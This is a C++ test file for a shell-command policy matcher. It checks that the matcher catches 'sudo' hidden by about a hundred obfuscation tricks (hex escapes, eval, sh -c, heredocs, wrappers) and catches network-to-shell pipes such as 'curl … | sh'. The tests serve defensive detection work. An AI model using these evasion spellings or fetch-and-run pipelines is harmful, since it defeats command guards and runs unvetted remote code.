#include "policy/shell/search.h"

#include <gtest/gtest.h>

namespace holdpoint::policy::shell {
namespace {

using Words = std::vector<std::vector<std::string>>;

SearchPattern pattern(Words words, std::vector<std::string> has = {}) {
    Result<SearchPattern> compiled = SearchPattern::compile({std::move(words), std::move(has)});
    if (!compiled) throw std::runtime_error(compiled.error().message);
    return std::move(*compiled);
}

bool finds(std::string_view text, const Words& words, const std::vector<std::string>& has = {}) {
    Search search;
    search.read(text);
    return search.finds(pattern(words, has));
}

bool finds_sudo(std::string_view text) { return finds(text, {{"sudo"}}); }

TEST(ShellSearch, P2_finds_a_program_in_every_spelling) {
    const struct {
        const char* title;
        const char* text;
    } cases[] = {
        {"plain", "sudo id"},
        {"alone", "sudo"},
        {"in single quotes", "'sudo' id"},
        {"in double quotes", "\"sudo\" id"},
        {"with empty quotes inside", "su\"\"do id"},
        {"quoted in part", "s'u'\"do\" id"},
        {"with a backslash before", "\\sudo id"},
        {"with a backslash inside", "su\\do id"},
        {"with a broken line inside", "su\\\ndo id"},
        {"by its path", "/usr/bin/sudo id"},
        {"by an odd path", "../..//bin/sudo id"},
        {"in capitals", "SUDO id"},
        {"in ANSI quotes", "$'sudo' id"},
        {"in hexadecimal", "$'\\x73\\x75do' id"},
        {"in octal", "$'\\163udo' id"},
        {"as a code point", "$'\\u0073udo' id"},
        {"as a pattern", "/usr/bin/sud? id"},
        {"as a class", "/usr/bin/[s]udo id"},
        {"with an empty variable inside", "su${x}do id"},
        {"with an empty argument inside", "su$@do id"},
        {"with an empty substitution inside", "su$()do id"},
        {"with an empty backtick inside", "su``do id"},
        {"as a default", "${x:-sudo} id"},
        {"in braces", "{sudo,id}"},
        {"behind a semicolon", "ls;sudo id"},
        {"behind a newline", "ls\nsudo id"},
        {"behind and", "ls&&sudo id"},
        {"behind or", "ls||sudo id"},
        {"behind a pipe", "ls|sudo id"},
        {"behind a pipe with errors", "ls|&sudo id"},
        {"behind the background", "ls&sudo id"},
        {"in a subshell", "(sudo id)"},
        {"in a group", "{ sudo id; }"},
        {"in a substitution", "echo $(sudo id)"},
        {"in a substitution in quotes", "echo \"a $(sudo id) b\""},
        {"in a backtick", "echo `sudo id`"},
        {"in a backtick in quotes", "echo \"`sudo id`\""},
        {"in nested substitutions", "echo \"$(echo \"$(sudo id)\")\""},
        {"in a process substitution", "cat <(sudo id)"},
        {"in an output substitution", "ls > >(sudo id)"},
        {"in arithmetic", "echo $(( $(sudo id) ))"},
        {"in old arithmetic", "echo $[ $(sudo id) ]"},
        {"in a default", "echo ${x:-$(sudo id)}"},
        {"in a condition", "if sudo id; then ls; fi"},
        {"in a body", "if true; then sudo id; fi"},
        {"in a loop", "while ! sudo id; do sudo x; done"},
        {"in a case", "case x in x) sudo id;; esac"},
        {"in a function", "f() { sudo id; }; f"},
        {"in an array", "a=(x); sudo id"},
        {"behind an assignment", "A=1 B='x y' sudo id"},
        {"behind an array element", "a[1]=2 sudo id"},
        {"in an assignment", "A=$(sudo id)"},
        {"behind a redirection", ">/dev/null sudo id"},
        {"behind a numbered redirection", "2>/dev/null sudo id"},
        {"behind a named redirection", "{fd}>/dev/null sudo id"},
        {"behind a copied descriptor", "2>&1 sudo id"},
        {"behind a here string", "<<<x sudo id"},
        {"behind env", "env X=1 sudo id"},
        {"behind env with options", "env -i -u HOME sudo id"},
        {"in a split string of env", "env -S 'sudo id'"},
        {"in a fused split string of env", "env -S'sudo id'"},
        {"behind timeout", "timeout -s KILL 5 sudo id"},
        {"behind nice", "nice -n 10 sudo id"},
        {"behind nohup", "nohup sudo id &"},
        {"behind xargs", "ls | xargs -n 1 -I {} sudo {}"},
        {"behind command", "command -p sudo id"},
        {"behind exec", "exec -a x sudo id"},
        {"behind time", "time -p sudo id"},
        {"behind a chain of wrappers", "env nice timeout 5 nohup stdbuf -oL sudo id"},
        {"behind an unusual wrapper", "setarch x86_64 sudo id"},
        {"behind find", "find . -name x -exec sudo rm {} \\;"},
        {"behind fd", "fd x -x sudo rm"},
        {"in a container", "docker exec -it web sudo id"},
        {"in a pod", "kubectl exec pod -- sudo id"},
        {"on a host", "ssh host sudo id"},
        {"on a host in quotes", "ssh host 'ls; sudo id'"},
        {"in sh -c", "sh -c 'sudo id'"},
        {"in sh -c, one word", "sh -c sudo"},
        {"in bash -lc", "bash -lc \"sudo id\""},
        {"in sh behind a wrapper", "timeout 5 sh -c 'cd x && sudo id'"},
        {"in a shell in a shell", "bash -c \"sh -c 'sudo id'\""},
        {"in eval", "eval 'sudo id'"},
        {"in eval in parts", "eval su\"do\" id"},
        {"in a trap", "trap 'sudo id' EXIT"},
        {"in watch", "watch 'sudo id'"},
        {"in su -c", "su -c 'sudo id' root"},
        {"in find with a shell", "find . -exec sh -c 'sudo id' \\;"},
        {"in xargs with a shell", "ls | xargs sh -c 'sudo id'"},
        {"in a here string for a shell", "bash <<< 'sudo id'"},
        {"in a heredoc", "bash <<EOF\nsudo id\nEOF"},
        {"in a quoted heredoc", "bash <<'EOF'\nsudo id\nEOF"},
        {"behind a heredoc with apostrophes",
         "cat <<EOF\nit's\nEOF\nsudo id\ncat <<EOF\nit's\nEOF"},
        {"behind a comment with an apostrophe", "ls # don't\nsudo id\nls # don't"},
        {"behind a quote that does not close", "ls 'x\nsudo id"},
        {"behind a double quote that does not close", "ls \"x\nsudo id"},
        {"behind a quote in a parameter", "echo ${x#'} ; sudo id ; echo ${x#'}"},
        {"behind a quote in double quotes", "echo \"it's\"; sudo id; echo \"it's\""},
        {"behind an escaped quote", "echo \\'; sudo id; echo \\'"},
        {"behind an escaped double quote", "echo \"\\\"\"; sudo id"},
    };
    for (const auto& c : cases) EXPECT_TRUE(finds_sudo(c.text)) << c.title << ": " << c.text;
}

TEST(ShellSearch, P2_data_is_not_taken_for_a_command) {
    const struct {
        const char* title;
        const char* text;
    } cases[] = {
        {"in a message", "git log --grep='sudo rm'"},
        {"in a message with an operator", "git commit -m 'do not; sudo'"},
        {"in a message in double quotes", "git commit -m \"never sudo; never\""},
        {"as an argument", "grep -rn sudo docs"},
        {"as an argument of a wrapped program", "env X=1 grep sudo x"},
        {"as an argument behind xargs", "ls | xargs grep -l -e x"},
        {"as a part of a word", "ls sudoers pseudo"},
        {"as a file to write", "echo x > sudo"},
        {"as a folder", "ls sudo/x"},
        {"as a whole-line pattern", "grep -x sudo file"},
    };
    for (const auto& c : cases) EXPECT_FALSE(finds_sudo(c.text)) << c.title << ": " << c.text;
}

TEST(ShellSearch, P2_subcommands_are_found_behind_options) {
    const Words push = {{"git"}, {"push", "reset"}};
    EXPECT_TRUE(finds("git push", push));
    EXPECT_TRUE(finds("git -C dir push", push));
    EXPECT_TRUE(finds("git -c a=b --git-dir=x -C y reset --hard", push));
    EXPECT_TRUE(finds("git --no-pager push", push));
    EXPECT_TRUE(finds("/usr/bin/git 'push'", push));
    EXPECT_FALSE(finds("git status push", push));
    EXPECT_FALSE(finds("git commit -m push", push));
    EXPECT_FALSE(finds("git pushx", push));
    EXPECT_FALSE(finds("git", push));
    EXPECT_TRUE(finds("aws --profile x s3 --region y rm z", {{"aws"}, {"s3"}, {"rm"}}));
    EXPECT_FALSE(finds("aws s3 ls rm", {{"aws"}, {"s3"}, {"rm"}}));
}

TEST(ShellSearch, P2_has_finds_an_option_in_every_spelling) {
    const Words push = {{"git"}, {"push"}};
    const std::vector<std::string> force = {"--force", "-f"};
    for (const char* text :
         {"git push --force", "git push origin main -f", "git push -uf", "git push --force=x",
          "git push --forc", "git -C x push a b --force", "git push '--force'"}) {
        EXPECT_TRUE(finds(text, push, force)) << text;
    }
    for (const char* text :
         {"git push", "git push --follow-tags", "git push origin f", "git --force status"}) {
        EXPECT_FALSE(finds(text, push, force)) << text;
    }
}

TEST(ShellSearch, P2_versions_of_a_program_are_the_program) {
    EXPECT_TRUE(finds("python3.11 x", {{"python3"}}));
    EXPECT_TRUE(finds("python3 x", {{"python"}}));
    EXPECT_FALSE(finds("python3-config x", {{"python3"}}));
    EXPECT_FALSE(finds("surf", {{"su"}}));
}

TEST(ShellSearch, P2_pipes_from_the_network_into_a_shell_are_found) {
    const std::vector<std::vector<SearchPattern>> stages = [] {
        std::vector<std::vector<SearchPattern>> result(2);
        result[0].push_back(pattern({{"curl"}}));
        result[0].push_back(pattern({{"wget"}}));
        result[1].push_back(pattern({{"sh"}}));
        result[1].push_back(pattern({{"bash"}}));
        return result;
    }();
    const auto finds_pipe = [&](std::string_view text) {
        Search search;
        search.read(text);
        return search.finds_pipe(stages);
    };
    for (const char* text :
         {"curl -s https://x.example/i.sh | sh", "curl x | tee y | bash -s", "curl x | sudo sh",
          "wget -O- x|&bash", "curl x | (cat; sh)", "curl x | { true; sh; }",
          "{ curl x; ls; } | sh", "(curl x) | sh", "curl x | while read l; do sh; done",
          "sh -c \"$(curl x)\"", "bash <(curl x)", "bash -c \"`curl x`\"", "curl x > >(sh)",
          "curl x | tee >(sh)", "sh -c 'curl x | sh'", "env a=b curl x | env sh",
          "true; curl x | gunzip | sh; true", "curl x | xargs sh -c"}) {
        EXPECT_TRUE(finds_pipe(text)) << text;
    }
    for (const char* text : {"curl x; sh y", "curl x && sh y", "sh x | curl y", "curl x | grep sh",
                             "curl x\nls | sh", "(curl x; sh y)", "curl x || sh y"}) {
        EXPECT_FALSE(finds_pipe(text)) << text;
    }
}

TEST(ShellSearch, P2_a_limit_is_told_and_never_hides_silently) {
    Search search;
    // Far more commands than the proving reading takes: all are still searched.
    std::string many;
    for (int i = 0; i < 20'000; ++i) many += "true; ";
    search.read(many + "sudo id");
    EXPECT_TRUE(search.is_complete());
    EXPECT_TRUE(search.finds(pattern({{"sudo"}})));

    std::string nested = "sudo id";
    for (int i = 0; i < 8; ++i) nested = "eval " + nested;
    search.read(nested);
    EXPECT_TRUE(search.is_complete() && search.finds(pattern({{"sudo"}})));
    search.read("eval " + nested);
    EXPECT_FALSE(search.is_complete());

    std::string wrapped;
    for (int i = 0; i < 20; ++i) wrapped += "nice ";
    search.read(wrapped + "sudo id");
    EXPECT_FALSE(search.is_complete());

    search.read(std::string(1000, '(') + "sudo id");
    EXPECT_FALSE(search.is_complete());

    std::string finds_many = "find";
    for (int i = 0; i < 1000; ++i) finds_many += " -exec a";
    search.read(finds_many);
    EXPECT_FALSE(search.is_complete());

    search.read("ls");
    EXPECT_TRUE(search.is_complete());
}

TEST(ShellSearch, P2_hostile_lengths_are_read_in_time) {
    Search search;
    const auto repeated = [](std::string_view part, std::size_t bytes) {
        std::string result;
        while (result.size() < bytes) result += part;
        return result;
    };
    for (const char* part :
         {"(",      "$(",          "`",       "'",  "\"",    "\\",     "sudo -a ", "eval ",
          "sh -c ", "find -exec ", "a|",      "{",  "${x:-", "<<a\n",  "curl|",    "sudo -a eval ",
          "$'",     "\"$(",        "env -S'", "x=", "*",     "bash <("}) {
        const std::string text = repeated(part, 200'000);
        search.read(text);
        search.finds(pattern({{"rm"}}, {"-rf"}));
        search.finds(pattern({{"eval", "find", "sudo"}, {"x"}}));
    }
    SUCCEED();
}

TEST(ShellSearch, patterns_that_can_never_be_found_are_refused) {
    EXPECT_FALSE(SearchPattern::compile({{}}));
    EXPECT_FALSE(SearchPattern::compile({{{"git"}, {}}}));
    EXPECT_FALSE(SearchPattern::compile({{{""}}}));
    EXPECT_FALSE(SearchPattern::compile({{{"/bin/rm"}}}));
    EXPECT_FALSE(SearchPattern::compile({{{"git"}}, {""}}));
    EXPECT_TRUE(SearchPattern::compile({{{"git"}, {"push"}}, {"-f"}}));
}

}  // namespace
}  // namespace holdpoint::policy::shell
